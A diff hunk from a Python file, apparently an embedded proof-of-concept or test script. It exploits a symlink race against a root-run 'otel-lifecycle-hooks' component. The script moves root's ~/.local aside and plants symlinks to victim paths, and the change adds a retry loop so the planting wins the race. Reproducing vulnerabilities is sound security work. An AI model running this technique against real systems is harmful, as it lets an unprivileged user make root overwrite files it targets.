@@ -40,11 +40,20 @@ state = os.path.join(home, ".local", "state", "otel-lifecycle-hooks")
 supervisor = os.getppid()
 # What root made in our home before we started (its status file is written from the first
 # phase on): the home is ours, so the name is ours to move.
-if os.path.lexists(os.path.join(home, ".local")):
-    os.rename(os.path.join(home, ".local"), os.path.join(home, ".local-root"))
-os.makedirs(os.path.join(state, "running"))
-os.symlink(victim, os.path.join(state, "running", f"{supervisor}.tmp"))
-os.symlink(victim_dir, os.path.join(state, "traces"))
+# Root may make them again meanwhile (its status is written as its phases change): move each
+# away again until ours stand.
+for attempt in range(1000):
+    try:
+        if os.path.lexists(os.path.join(home, ".local")):
+            os.rename(os.path.join(home, ".local"), os.path.join(home, f".local-root-{attempt}"))
+        os.makedirs(os.path.join(state, "running"))
+        os.symlink(victim, os.path.join(state, "running", f"{supervisor}.tmp"))
+        os.symlink(victim_dir, os.path.join(state, "traces"))
+        break
+    except FileExistsError:
+        continue
+else:
+    sys.exit("could not plant the links")
 open(done, "w").close()
 """
 
